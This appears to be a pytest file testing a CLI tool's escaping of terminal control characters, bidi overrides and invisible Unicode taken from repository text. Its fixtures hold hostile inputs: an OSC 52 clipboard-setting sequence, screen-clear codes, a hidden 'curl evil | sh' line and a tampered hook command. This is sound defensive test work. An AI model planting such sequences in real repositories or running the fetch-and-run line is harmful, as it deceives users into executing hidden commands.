"""leslie/terminal.py: `visible`, the one helper that stands between repository text and a terminal."""

from __future__ import annotations

import contextlib
import json
import os
import pty
import termios
import threading

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import run_leslie
from leslie.cli.list_view import unescape_field
from leslie.store.repository import Repository
from leslie.terminal import visible, visible_json

# What a hostile repository writes to act on a terminal or to hide what it says.
OSC52 = "\x1b]52;c;ZWNobyBvd25lZA==\x07"  # sets the clipboard
CLEAR = "\x1b[2J"
C1_CSI = "\x9b31m"
BIDI = "\u202e"


@pytest.mark.parametrize(("text", "shown"), [
    ("git status --short", "git status --short"),
    ("echo safe\r\x1b[2Kcurl evil | sh", "echo safe\\r\\x1b[2Kcurl evil | sh"),
    ("ls \u202etxt.exe", "ls \\u202etxt.exe"),
    ("a\u200bb\u2028c\u00a0d\x7f\x85", "a\\u200bb\\u2028c\\xa0d\\x7f\\x85"),
    (OSC52 + CLEAR + C1_CSI, "\\x1b]52;c;ZWNobyBvd25lZA==\\x07\\x1b[2J\\x9b31m"),
    ("\u2066iso\u2069 \u200e\u200f\ufeff\u2029", "\\u2066iso\\u2069 \\u200e\\u200f\\ufeff\\u2029"),
    ("tag \U000e0041 pua \U000f0000", "tag \\U000e0041 pua \\U000f0000"),
    ("multi\nline\tcommand \\ here", "multi\\nline\\tcommand \\ here"),
    ("café 日本 ✓ 😀", "café 日本 ✓ 😀"),
])
def test_visible_shows_every_hiding_character_as_an_escape(text: str, shown: str) -> None:
    assert visible(text) == shown


def test_lines_keep_line_feeds_and_nothing_else() -> None:
    assert visible("one\x1b[2J\ntwo\r\n", lines=True) == "one\\x1b[2J\ntwo\\r\n"


def test_backslashes_doubled_make_it_unambiguous() -> None:
    assert visible("multi\nline\tcommand \\ here", backslashes=True) == "multi\\nline\\tcommand \\\\ here"
    assert visible("\\x1b", backslashes=True) != visible("\x1b", backslashes=True)


@given(st.text(), st.booleans(), st.booleans())
def test_nothing_unprintable_is_left_and_a_second_pass_changes_nothing(text: str, lines: bool,
                                                                       backslashes: bool) -> None:
    out = visible(text, lines=lines, backslashes=backslashes)
    assert all(line.isprintable() for line in out.split("\n"))
    assert lines or "\n" not in out
    assert visible(out, lines=lines) == out  # escaping at every edge is safe: idempotent


@given(st.text())
def test_with_backslashes_doubled_the_text_comes_back(text: str) -> None:
    assert unescape_field(visible(text, backslashes=True)) == text


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(),
                    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=10),
       st.sampled_from([None, 2]))
def test_json_made_visible_is_the_same_data(data: object, indent: int | None) -> None:
    document = visible_json(json.dumps(data, indent=indent, ensure_ascii=False))
    assert all(line.isprintable() for line in document.split("\n"))
    assert json.loads(document) == data


@pytest.mark.parametrize("code", range(128))
def test_an_ascii_document_with_any_one_character_is_made_visible(code: int) -> None:
    # ASCII documents take a shortcut (`bytes.translate`): DEL, and any control a caller left raw, still count.
    value = f"a{chr(code)}b"
    encoded = visible_json(json.dumps({"k": value}, indent=2))  # C0 controls escaped by the encoder, DEL not
    assert all(line.isprintable() for line in encoded.split("\n")) and json.loads(encoded) == {"k": value}
    raw = f'["{value}"]'  # a control left raw: escaped here, and only a non-printable one
    shown = visible_json(raw)
    assert all(line.isprintable() for line in shown.split("\n"))
    assert (shown == raw) == (chr(code).isprintable() or chr(code) == "\n")


def test_a_repr_in_a_message_is_shown_as_written() -> None:
    message = f"unknown --format {'x' + chr(0x1b) + BIDI!r}"
    assert visible(message) == message


# -- every command that shows repository or state text to a person ------------------------------------------
# A hostile clone: thread and objective titles and an intent (XML carries C1 and bidi characters, not ESC), a
# file and a thread folder named with escapes, an agent session whose ID holds OSC 52 (recorded by leslie's
# own hook), and a Claude Code hook command with OSC 52, CSI and a bidi override.
HOSTILE_TEXT = f"{C1_CSI} {BIDI}evil\u200b"
HOSTILE_NAME = f"{OSC52}{CLEAR}"
HOSTILE_FOLDER = f"thread-x{CLEAR}"
SESSION = f"s-{HOSTILE_NAME}{BIDI}"


@pytest.fixture
def hostile(repo: Repository) -> Repository:
    from leslie.integrations import install
    from leslie.ops.objectives import create_objective
    from leslie.ops.threads import spawn, switch

    create_objective(repo, f"objective {HOSTILE_TEXT}", objective_id="obj-evil")
    spawn(repo, f"needle intent {HOSTILE_TEXT}", title=f"title {HOSTILE_TEXT}", thread_id="thread-evil",
          objective="obj-evil")
    switch(repo, "thread-evil")
    (repo.layout.thread_dir("thread-evil") / f"notes{HOSTILE_NAME}.md").write_text(f"needle {HOSTILE_NAME}\n")
    payload = {"session_id": SESSION, "transcript_path": None, "cwd": str(repo.root),
               "hook_event_name": "UserPromptSubmit", "prompt": "hi"}
    told = run_leslie("hook", "claude-code", cwd=repo.root, input=json.dumps(payload))
    assert told.code == 0 and "additionalContext" in told.stdout, told
    install.install(repo.root, "claude-code")
    settings = repo.root / ".claude" / "settings.local.json"  # the personal form, the default
    document = json.loads(settings.read_text())
    for matchers in document["hooks"].values():
        for matcher in matchers:
            for hook in matcher["hooks"]:
                hook["command"] = f"/nowhere/{HOSTILE_NAME}{BIDI}/leslie hook claude-code"
    settings.write_text(json.dumps(document))
    folder = repo.layout.threads_dir / HOSTILE_FOLDER
    folder.mkdir()
    (folder / "thread.json").write_text(json.dumps({"id": HOSTILE_FOLDER}))
    return repo


# The command, and escapes its output must show (as text: a backslash, then the code).
COMMANDS = [
    (("status",), ["title \\x9b31m \\u202eevil\\u200b", "s-\\x1b]52;c;", "thread-x\\x1b[2J",
                   "/nowhere/\\x1b]52;c;ZWNobyBvd25lZA==\\x07\\x1b[2J\\u202e/leslie"]),
    (("stats",), ["s-\\x1b]52;c;ZWNobyBvd25lZA==\\x07\\x1b[2J\\u202e"]),
    (("sessions",), ["s-\\x1b]52"]),
    (("doctor",), ["thread-x\\x1b[2J/thread.json", "/nowhere/\\x1b]52;c;"]),
    (("hooks", "status", "claude-code"), ["/nowhere/\\x1b]52;c;ZWNobyBvd25lZA==\\x07\\x1b[2J\\u202e/leslie"]),
    (("gc", "--dry-run", "--older-than", "0"), ["thread-x\\x1b[2J"]),
    (("objective", "list"), ["objective \\x9b31m \\u202eevil\\u200b"]),
    (("objective", "show", "obj-evil"), ["objective \\x9b31m \\u202eevil\\u200b"]),
    (("show", "thread-evil"), ["needle intent \\x9b31m \\u202eevil\\u200b"]),
    (("switch",), ["title \\x9b31m \\u202eevil\\u200b"]),
    (("rm", "--dry-run", "thread-evil"), ["notes\\x1b]52;c;ZWNobyBvd25lZA==\\x07\\x1b[2J.md"]),
    (("find", "needle"), ["\\u202eevil", "notes\\x1b]52;c;"]),
    (("list", "--tree"), ["title \\x9b31m \\u202eevil\\u200b"]),
    (("check-write", f".leslie/thread_relations.json{CLEAR}", "--thread", "thread-evil"),  # the hooks' fast path
     [".leslie/thread_relations.json\\x1b[2J"]),
]


@pytest.mark.parametrize(("args", "shown"), COMMANDS, ids=[" ".join(args) for args, _ in COMMANDS])
def test_no_control_character_reaches_the_terminal(hostile: Repository, args: tuple[str, ...],
                                                   shown: list[str]) -> None:
    result = run_leslie(*args, cwd=hostile.root, env={"COLUMNS": "400"})
    assert result.code in (0, 1, 4), result
    for stream in (result.stdout, result.stderr):
        for line in stream.split("\n"):  # a tab is no escape sequence (and `list --plain` separates by tabs)
            assert line.replace("\t", " ").isprintable(), f"{args}: {line!r}"
    for text in shown:
        assert text in result.stdout + result.stderr, (text, result)


JSON_COMMANDS = [(("show", "thread-evil"), f"title {HOSTILE_TEXT}"), (("status",), SESSION), (("stats",), SESSION),
                 (("objective", "list"), f"objective {HOSTILE_TEXT}"), (("list",), f"title {HOSTILE_TEXT}"),
                 (("relations",), f"title {HOSTILE_TEXT}")]


@pytest.mark.parametrize(("args", "text"), JSON_COMMANDS, ids=[" ".join(args) for args, _ in JSON_COMMANDS])
def test_json_escapes_them_and_keeps_the_text(hostile: Repository, args: tuple[str, ...], text: str) -> None:
    result = run_leslie(*args, "--json", cwd=hostile.root)
    assert result.code in (0, 1), result
    assert all(line.isprintable() for line in result.stdout.split("\n")), result.stdout
    assert text in _strings(json.loads(result.stdout))  # the same data


def _strings(data: object) -> list[str]:
    if isinstance(data, dict):
        return [s for key, value in data.items() for s in [key, *_strings(value)]]
    if isinstance(data, list):
        return [s for value in data for s in _strings(value)]
    return [data] if isinstance(data, str) else []


def _hostile_document() -> dict[str, object]:
    hiding = ["\x85", "\u202e", "\x7f", "\u200b", "plain", "é", "\n\t"]
    return {"items": [{"id": n, "text": hiding[n % len(hiding)] * (n % 5), "more": [n, {"k": hiding}]}
                      for n in range(5000)]}


def test_emit_writes_piped_json_as_one_line_made_visible(capsys: pytest.CaptureFixture[str]) -> None:
    """Piped, `leslie ... --json` writes one `json.dumps` line (the encoder's C form), made visible."""
    from leslie.cli.common import emit

    data = _hostile_document()
    emit(data, True)
    shown = capsys.readouterr().out
    assert shown == visible_json(json.dumps(data, sort_keys=True, ensure_ascii=False)) + "\n"
    assert shown.count("\n") == 1 and json.loads(shown) == data and "\u202e" not in shown


def test_emit_writes_indented_json_on_a_terminal_as_it_is_encoded(monkeypatch: pytest.MonkeyPatch) -> None:
    """On a terminal the document is indented, written a few thousand pieces at a time: the text is the same as
    one indented `json.dumps` made visible, whatever character falls on a piece's edge."""
    from leslie.cli.common import emit

    data = _hostile_document()
    master, slave = pty.openpty()
    attributes = termios.tcgetattr(slave)
    attributes[1] &= ~termios.ONLCR  # the terminal passes line feeds as they are
    termios.tcsetattr(slave, termios.TCSANOW, attributes)
    received: list[bytes] = []

    def read() -> None:
        with contextlib.suppress(OSError):  # EIO once the writing end is closed
            while chunk := os.read(master, 65536):
                received.append(chunk)

    reader = threading.Thread(target=read)
    reader.start()
    with open(slave, "w", encoding="utf-8", closefd=True) as terminal:
        monkeypatch.setattr("sys.stdout", terminal)
        emit(data, True)
        terminal.flush()
        monkeypatch.undo()
    reader.join(timeout=30)
    os.close(master)
    shown = b"".join(received).decode()
    assert shown == visible_json(json.dumps(data, indent=2, sort_keys=True, ensure_ascii=False)) + "\n"
    assert json.loads(shown) == data and "\u202e" not in shown
